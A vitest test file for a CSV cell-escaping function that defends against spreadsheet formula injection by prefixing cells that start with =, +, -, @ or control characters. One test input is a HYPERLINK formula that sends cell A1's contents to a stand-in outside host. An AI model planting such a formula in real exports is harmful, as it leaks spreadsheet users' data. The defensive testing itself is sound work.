import { expect, test } from 'vitest'
import { escapeCsvCell } from './csv.ts'

test.each([
  ['plain', 'plain'],
  ['a = b', 'a = b'],
  ['=HYPERLINK("https://example.com?"&A1)', `"'=HYPERLINK(""https://example.com?""&A1)"`],
  ['=1+1', "'=1+1"],
  ['+1+1', "'+1+1"],
  ['-1+1', "'-1+1"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', "'\t=1"],
  ['\r=1', `"'\r=1"`],
  ['-', "'-"],
  ['-5', '-5'],
  ['+5.25', '+5.25'],
  ['-1.5e-3', '-1.5e-3'],
  ['a,b', '"a,b"'],
  ['say "x"\n', '"say ""x""\n"'],
  ['', ''],
])('writes %j as %j', (text, cell) => {
  expect(escapeCsvCell(text)).toBe(cell)
})
